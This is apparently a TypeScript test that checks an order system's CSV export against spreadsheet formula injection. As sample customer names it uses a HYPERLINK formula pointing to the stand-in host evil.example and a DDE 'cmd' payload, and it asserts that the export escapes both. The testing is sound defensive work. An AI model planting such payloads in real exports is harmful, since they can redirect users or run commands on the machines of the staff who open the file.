import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { FormParamsResponse } from '@app/contracts';
import { createTestContext, DEMO, type TestContext } from '#test/helpers.ts';

describe('CSV export of orders (decision 021)', () => {
  let ctx: TestContext;

  beforeAll(async () => {
    ctx = await createTestContext();
  });
  afterAll(() => ctx.close());

  it('writes names that look like formulas as text, not as formulas', async () => {
    const params = (
      await ctx.app.inject({ method: 'GET', url: '/api/order/form-params' })
    ).json<FormParamsResponse>();
    const points = await ctx.app.inject({ method: 'GET', url: '/api/point/active' });
    const pointId = points.json<{ items: Array<{ id: string }> }>().items[0]!.id;
    const names = [
      '=HYPERLINK("http://evil.example/?x","Открыть")',
      '+cmd|" /C calc"!A0',
      '@SUM(1+1)',
      '-2+3',
    ];
    for (const [index, name] of names.entries()) {
      const response = await ctx.app.inject({
        method: 'POST',
        url: '/api/order',
        payload: {
          name,
          phoneNumber: '+79160001122',
          email: `formula${index}@csv-injection.example`,
          documentsWithQuantity: [{ documentId: params.documents[0]!.id, quantity: 1 }],
          originalLanguage: 'ru',
          targetLanguage: 'en',
          deliveryId: params.deliveries.find((item) => item.type === 'PICKUP_POINT')!.id,
          pickupPointId: pointId,
        },
      });
      expect(response.statusCode, name).toBe(201);
    }
    const admin = await ctx.staffAuth(...DEMO.admin);
    const csv = await ctx.app.inject({
      method: 'GET',
      url: '/api/order/export.csv',
      headers: admin,
    });
    expect(csv.statusCode).toBe(200);
    const rows = csv.body
      .trim()
      .split('\n')
      .filter((row) => row.includes('@csv-injection.example'));
    expect(rows).toHaveLength(names.length);
    const clientCells = rows.map((row) => row.split(';')[5]);
    expect(clientCells.sort()).toEqual(
      [
        `"'=HYPERLINK(""http://evil.example/?x"",""Открыть"")"`,
        `"'+cmd|"" /C calc""!A0"`,
        "'@SUM(1+1)",
        "'-2+3",
      ].sort(),
    );
    for (const row of rows)
      expect(
        row.split(';').every((cell) => !/^"?[=+\-@]/.test(cell)),
        row,
      ).toBe(true);
  });
});
